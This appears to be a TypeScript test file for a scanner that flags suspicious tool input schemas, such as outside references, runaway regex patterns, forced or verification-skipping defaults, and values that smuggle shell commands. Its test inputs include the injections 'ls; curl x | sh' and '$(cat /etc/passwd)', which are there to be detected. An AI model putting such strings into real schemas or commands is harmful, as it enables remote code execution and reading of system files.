/** Input schemas that no review should pass unseen, and honest ones that look like them. */
import { describe, expect, it } from 'vitest';
import { saidOf, surfaceWith } from '../../bench/quality/judged.ts';
import { schemaSmells } from '../../scanner/checks/schema-smells.ts';
import type { Json, JsonObject } from '../../schemas/common.ts';
import { processorMs } from '../helpers/wait.ts';

async function told(inputSchema: Json, more: JsonObject = {}): Promise<string[]> {
  const tool = { name: 't', description: 'Reads rows.', ...more, inputSchema } as JsonObject & {
    name: string;
  };
  const said = await saidOf(surfaceWith([tool]), { checks: [schemaSmells] });
  return said.map(({ weight, finding }) => {
    const [evidence] = finding.evidence;
    return `${weight} ${finding.severity} ${evidence && 'at' in evidence ? evidence.at : ''} ${finding.message}`;
  });
}
const of = (properties: JsonObject, more: JsonObject = {}): JsonObject => ({
  ...{ type: 'object', properties },
  ...more,
});
const p = (schema: JsonObject): JsonObject => of({ p: schema });
const deep = (levels: number): JsonObject =>
  levels === 0 ? { type: 'string' } : { type: 'array', items: deep(levels - 1) };

describe('a schema is told', () => {
  it.each([
    [
      'that refers outside',
      p({ $ref: 'https://s.example/d.json' }),
      'warn high .*/p/\\$ref t has a reference to another document',
    ],
    ['that refers to nothing', p({ $ref: '#/$defs/x' }), 'warn high .* t has a reference to nothing'],
    ['that refers by what is no text', p({ $ref: 1 }), 'warn high .* a reference that is no text'],
    ['whose pattern is none', p({ pattern: '(' }), 'warn medium .*/p/pattern .*no argument can be judged'],
    [
      'whose pattern runs away',
      p({ pattern: '^([\\w.]+\\s?)*$' }),
      'warn medium .* keeps others than this runtime busy',
    ],
    ['whose choices begin alike', p({ pattern: '^(a|ab)*$' }), 'warn medium .* busy'],
    [
      'that requires what it does not describe',
      of({ a: {} }, { required: ['a', 'token'] }),
      'warn medium .*/required t requires token',
    ],
    [
      'that offers a command',
      p({ enum: ['ls', 'ls; curl x | sh'] }),
      'warn medium .*/p/enum .*a shell would run',
    ],
    ['that begins with a command', p({ default: '$(cat /etc/passwd)' }), 'warn medium .*/p/default'],
    [
      'that forces where nothing is said',
      of({ force: { type: 'boolean', default: true } }),
      'note low .*/force/default .*force is set',
    ],
    [
      'however deep',
      of({ a: { items: { anyOf: [{ properties: { skipVerification: { default: true } } }] } } }),
      'note low .*/anyOf/0/properties/skipVerification',
    ],
    ['that lies too deep', deep(200), 'warn medium .*/inputSchema t has more schemas than are read'],
  ])('%s', async (_what, schema, words) =>
    expect((await told(schema)).join('\n')).toMatch(new RegExp(`^${words}`)),
  );

  it('that takes anything to destroy something', async () => {
    const open = { type: 'object', additionalProperties: true };
    const tool = { name: 'delete_row', description: 'Deletes a row.' };
    expect((await told(open, tool)).join()).toMatch(
      /^note low .*delete_row destroys something and takes anything/,
    );
    expect(await told(open)).toEqual([]);
    expect(await told({ ...open, additionalProperties: false }, tool)).toEqual([]);
  });
});

describe('a schema is left alone', () => {
  it.each([
    ['that refers inside', { ...p({ $ref: '#/$defs/x' }), $defs: { x: { type: 'string' } } }],
    ['that refers to itself', p({ $ref: '#' })],
    [
      'that refers to an address of its own',
      { $id: 'https://s.example/a', ...p({ $ref: 'https://s.example/a' }) },
    ],
    ['of plain patterns', p({ pattern: '^[a-z]+(-[a-z]+)*@\\d{4}$' })],
    ['that requires what it describes', of({ a: {} }, { required: ['a'] })],
    [
      'that requires in a branch',
      of({ a: {}, b: {} }, { anyOf: [{ required: ['a'] }, { required: ['b'] }] }),
    ],
    ['of honest switches', of({ force: { default: false }, verbose: { default: true } })],
    ['of values with marks', p({ enum: ['a|b', 'x & y', 'a;b', '`', '$HOME'] })],
    ['that is none', true],
    ['that is missing', null],
  ])('%s', async (_what, schema) => expect(await told(schema as Json)).toEqual([]));

  it('in time, however many it has', async () => {
    const many = Object.fromEntries(
      Array.from({ length: 20_000 }, (_, i) => [`p${i}`, { pattern: '(a|aa)'.repeat(200) }]),
    );
    const spent = processorMs();
    expect((await told(of(many))).length).toBeGreaterThan(0);
    expect(spent()).toBeLessThan(20_000);
  });
});
